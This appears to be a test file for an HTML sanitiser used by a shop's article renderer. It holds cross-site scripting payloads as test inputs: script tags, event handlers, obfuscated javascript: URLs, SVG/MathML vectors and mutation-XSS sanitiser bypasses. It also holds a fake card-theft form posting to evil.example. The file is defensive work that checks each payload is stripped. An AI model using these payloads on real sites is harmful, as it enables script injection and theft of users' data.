/**
 * Editor HTML that tries to take over the page, rendered through ProseHtml into the real (jsdom) DOM:
 * each payload must lose its dangerous part and keep the reader's text.
 */
import { render } from '@testing-library/react';

import { MEDIA_BASE } from '@/lib/media';

import { ProseHtml } from './prose-html';
import { loadSanitizer } from './prose-sanitizer';

// Loaded up front, as a client-side navigation loads it, so each payload renders its sanitised form at
// once (prose-html-hydration.test.tsx covers what renders before it has loaded, and hydration).
beforeAll(() => loadSanitizer());

const PROSE_TAGS = new Set(
  'p br hr h2 h3 h4 strong b em i u s small sub sup abbr cite q code a ul ol li blockquote figure figcaption img table caption thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
const PROSE_ATTRIBUTES = new Set(
  'href title src alt width height colspan rowspan scope start reversed lang dir rel loading decoding'.split(
    ' ',
  ),
);

function renderProse(html: string): HTMLElement {
  const { container } = render(<ProseHtml html={html} />);
  return container.firstElementChild as HTMLElement;
}

/** Nothing but prose markup may reach the page, whatever the payload was. */
function expectOnlyProse(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(PROSE_TAGS, element.outerHTML).toContain(element.localName);
    for (const { name } of element.attributes) expect(PROSE_ATTRIBUTES, element.outerHTML).toContain(name);
  }
}

const hrefs = (root: HTMLElement) => [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'));

describe('ProseHtml against editor HTML that attacks the page', () => {
  it('drops <style> elements that would restyle the whole shop', () => {
    const root = renderProse(
      '<style>body{display:none}</style><p>Pour slowly.</p><STYLE>*{color:red}</STYLE>',
    );
    expect(root.innerHTML).toBe('<p>Pour slowly.</p>');
  });

  it('drops style and class attributes, so no overlay can be built from inline CSS or the shop’s own', () => {
    const root = renderProse(
      '<div style="position:fixed;inset:0;z-index:9999;background:#fff"><p>Your session expired.</p></div>' +
        '<p class="fixed inset-0 z-50 bg-white" style="color:red">Pour slowly.</p>',
    );
    expectOnlyProse(root);
    expect(root.querySelector('[style], [class], div')).toBeNull();
    expect(root.textContent).toBe('Your session expired.Pour slowly.');
  });

  it('drops forms, inputs and buttons with the labels that would invite a click', () => {
    const root = renderProse(
      '<form action="https://evil.example/steal" method="post"><p>Confirm your card</p>' +
        '<input name="card" placeholder="Card number"><select><option>Visa</option></select>' +
        '<textarea>notes</textarea><button type="submit">Pay now</button></form><p>Tea first.</p>',
    );
    expectOnlyProse(root);
    expect(root.querySelector('form, input, button, select, textarea')).toBeNull();
    expect(root.textContent).toBe('Confirm your cardTea first.');
  });

  it('drops frames, objects and media players that load another site into the page', () => {
    const root = renderProse(
      '<iframe src="https://evil.example/login"></iframe><object data="https://evil.example/x.swf"></object>' +
        '<embed src="https://evil.example/x.swf"><video src="https://evil.example/v.mp4" autoplay></video>' +
        '<audio autoplay><source src="https://evil.example/a.mp3"></audio><p>Tea first.</p>',
    );
    expectOnlyProse(root);
    expect(root.innerHTML).toBe('<p>Tea first.</p>');
  });

  it('keeps images from the project’s media bucket and drops foreign, data: and tracking images', () => {
    const root = renderProse(
      '<img src="https://tracker.example/pixel.gif?u=1" width="1" height="1" alt="">' +
        '<img src="//tracker.example/p.gif" alt=""><img src="/\\tracker.example/p.gif" alt="">' +
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="">' +
        '<img src="articles/../../private/secret.png" alt="">' +
        `<img src="${MEDIA_BASE.replace('/media/', '/other/')}x.png" alt="">` +
        '<img src="articles/mint-tea.webp" alt="Mint in a glass" srcset="https://tracker.example/p.gif 1x">' +
        `<figure><img src="${MEDIA_BASE}articles/tagine.webp" alt="Tagine"><figcaption>Slow heat.</figcaption></figure>`,
    );
    expectOnlyProse(root);
    const images = [...root.querySelectorAll('img')];
    expect(images.map((img) => img.getAttribute('src'))).toEqual([
      `${MEDIA_BASE}articles/mint-tea.webp`,
      `${MEDIA_BASE}articles/tagine.webp`,
    ]);
    expect(images[0]).toHaveAttribute('alt', 'Mint in a glass');
    expect(images[0]).toHaveAttribute('loading', 'lazy');
    expect(root.querySelector('figcaption')).toHaveTextContent('Slow heat.');
  });

  it('drops id and name, so editor markup cannot shadow document properties or the cart', () => {
    const root = renderProse(
      `<img id="cart" name="getElementById" src="${MEDIA_BASE}a.webp" alt="A bowl">` +
        '<a id="cookie" name="cookie" href="/shop">See the shop</a><p id="root" name="body">Tea.</p>',
    );
    expectOnlyProse(root);
    expect(root.querySelector('[id], [name]')).toBeNull();
    expect(typeof document.getElementById).toBe('function');
    expect(root.querySelector('img')).toHaveAttribute('alt', 'A bowl');
    expect(root.querySelector('a')).toHaveTextContent('See the shop');
  });

  it('drops scripts and event handlers', () => {
    const root = renderProse(
      `<p onmouseover="steal()">Hi<script>alert(1)</script></p><img src="${MEDIA_BASE}a.webp" onerror="alert(1)" alt="">` +
        '<a href="/shop" onclick="steal()" onfocus="steal()">shop</a><body onload="alert(1)">',
    );
    expectOnlyProse(root);
    expect(root.innerHTML).not.toMatch(/script|on[a-z]+=|alert/i);
    expect(root.textContent).toBe('Hishop');
  });

  it('strips script and data URLs from links but keeps their text', () => {
    const root = renderProse(
      '<a href="javascript:alert(document.cookie)">one</a><a href="JaVaScRiPt&colon;alert(1)">two</a>' +
        '<a href="java&#x09;script:alert(1)">three</a><a href=" vbscript:msgbox(1)">four</a>' +
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">five</a>',
    );
    expectOnlyProse(root);
    expect(hrefs(root)).toEqual([null, null, null, null, null]);
    expect(root.textContent).toBe('onetwothreefourfive');
  });

  it('drops SVG and MathML with the scripts and handlers they carry', () => {
    const root = renderProse(
      '<svg><script>alert(1)</script><circle onload="alert(1)"/></svg>' +
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>' +
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">y</maction></math><p>Tea.</p>',
    );
    expectOnlyProse(root);
    expect(root.innerHTML).not.toMatch(/svg|math|script|iframe|javascript/i);
    expect(root).toHaveTextContent('Tea.');
  });

  it.each([
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<a href="/shop"><table><a href="javascript:alert(1)">x</a></table></a>',
  ])('leaves nothing that mutates into script when parsed again: %s', (payload) => {
    const root = renderProse(payload);
    expectOnlyProse(root);
    const reparsed = document.createElement('div');
    reparsed.innerHTML = root.innerHTML;
    expectOnlyProse(reparsed);
    expect(reparsed.innerHTML).not.toMatch(/<(script|style|svg|math)|onerror|javascript:/i);
  });

  it('marks links to other sites and leaves the shop’s own links, e-mail and anchors plain', () => {
    const root = renderProse(
      '<p><a href="https://artisans.example/fes" target="_blank" rel="opener">Fes potters</a> ' +
        '<a href="//evil.example/x">two</a> <a href="/\\evil.example/x">three</a> ' +
        '<a href="/ritual/atay-the-three-glasses">Atay</a> <a href="mailto:privacy@zellij.example">write</a> ' +
        '<a href="#steps">steps</a></p>',
    );
    expectOnlyProse(root);
    const links = [...root.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.getAttribute('rel')]);
    expect(links).toEqual([
      ['https://artisans.example/fes', 'noopener noreferrer nofollow'],
      ['https://evil.example/x', 'noopener noreferrer nofollow'],
      ['https://evil.example/x', 'noopener noreferrer nofollow'],
      ['/ritual/atay-the-three-glasses', null],
      ['mailto:privacy@zellij.example', null],
      ['#steps', null],
    ]);
    expect(root.querySelector('[target]')).toBeNull();
  });
});
